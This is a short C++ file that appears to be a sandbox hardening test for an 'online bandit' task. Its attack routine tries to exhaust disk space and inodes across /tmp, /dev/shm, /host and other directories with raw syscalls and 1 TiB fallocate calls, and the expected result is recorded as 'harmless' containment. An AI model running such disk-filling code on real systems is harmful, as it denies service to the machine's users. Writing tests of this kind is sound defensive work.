// task: optimization-online-bandit
// route: exhausting disk and inodes
// tries: to fill disks with large files and folders with many, wherever it can write
// expect: harmless

#include "shared/bandit.hpp"
#include "shared/probe.hpp"

void attack::begin(const mls::Info&, mls::Rng&) {
  survive();
  static char block[1 << 16];
  for (const char* folder : {"", "/", "/tmp/", "/var/tmp/", "/dev/shm/", "/work/", "/host/", "/proc/self/"}) {
    for (int i = 0; i < 1000; ++i) {
      const std::string path = std::string(folder) + mark + std::to_string(i);
      const long fd = call(SYS_open, address(path.c_str()), O_CREAT | O_RDWR, 0600);
      if (fd < 0 && call(SYS_mkdir, address(path.c_str()), 0700) < 0 &&
          call(SYS_creat, address(path.c_str()), 0600) < 0 &&
          call(SYS_mknod, address(path.c_str()), 0600, 0) < 0) {
        break;
      }
      for (int k = 0; k < 16 && fd >= 0; ++k) call(SYS_write, fd, address(block), sizeof block);
      call(SYS_fallocate, fd, 0, 0, 1L << 40);
    }
  }
}
